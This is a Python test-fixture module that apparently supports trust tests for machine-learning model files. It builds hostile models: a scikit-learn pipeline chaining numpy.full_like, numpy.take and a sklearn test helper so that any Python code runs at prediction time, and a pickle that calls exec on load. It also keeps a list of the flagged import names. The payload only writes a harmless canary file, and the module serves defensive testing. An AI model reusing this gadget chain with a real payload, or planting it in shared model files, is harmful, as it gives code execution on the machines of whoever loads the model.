"""Hostile model files for the trust tests: each would write a canary file if it ran.

Built from names that sit in trusted libraries (NumPy, scikit-learn) and are
harmless-looking one by one; together they run arbitrary Python at the first
prediction. The pickle does it at load.
"""

from __future__ import annotations

import pickle
from pathlib import Path
from typing import Any


def code_for(canary: Path) -> str:
    """Python that creates `canary`: what an attacker's payload would do."""
    return f"open({str(canary)!r}, 'w').write('pwned')"


def full_like(canary: Path) -> Any:
    """numpy.full_like filling an array with the attacker's code as a string."""
    import numpy as np
    from sklearn.preprocessing import FunctionTransformer

    return FunctionTransformer(
        np.full_like, kw_args={"fill_value": code_for(canary), "dtype": "U200"}
    )


def take() -> Any:
    """numpy.take picking one element: the code string, out of that array."""
    import numpy as np
    from sklearn.preprocessing import FunctionTransformer

    return FunctionTransformer(np.take, kw_args={"indices": 0})


def run_script() -> Any:
    """scikit-learn's test helper that runs a string as a Python script."""
    from sklearn.preprocessing import FunctionTransformer
    from sklearn.utils._testing import assert_run_python_script_without_output

    return FunctionTransformer(assert_run_python_script_without_output, kw_args={"pattern": "zzzz"})


def chain(canary: Path) -> Any:
    """The whole gadget: full_like → take → run the script → a fitted DummyClassifier."""
    from sklearn.dummy import DummyClassifier
    from sklearn.pipeline import Pipeline

    clf = DummyClassifier().fit([[0.0], [1.0]], [0, 1])
    return Pipeline(
        [("fill", full_like(canary)), ("pick", take()), ("run", run_script()), ("clf", clf)]
    )


GADGETS = {
    "chain": (chain, ("numpy.full_like", "numpy.take", "sklearn.utils._testing.")),
    "full_like": (lambda canary: full_like(canary), ("numpy.full_like",)),
    "take": (lambda canary: take(), ("numpy.take",)),
    "run_script": (lambda canary: run_script(), ("sklearn.utils._testing.",)),
}


class _Evil:
    def __init__(self, canary: Path) -> None:
        self.canary = canary

    def __reduce__(self) -> tuple[Any, ...]:
        return (exec, (code_for(self.canary),))


def evil_pickle(canary: Path) -> bytes:
    """A pickle whose loading writes `canary`."""
    return pickle.dumps(_Evil(canary))
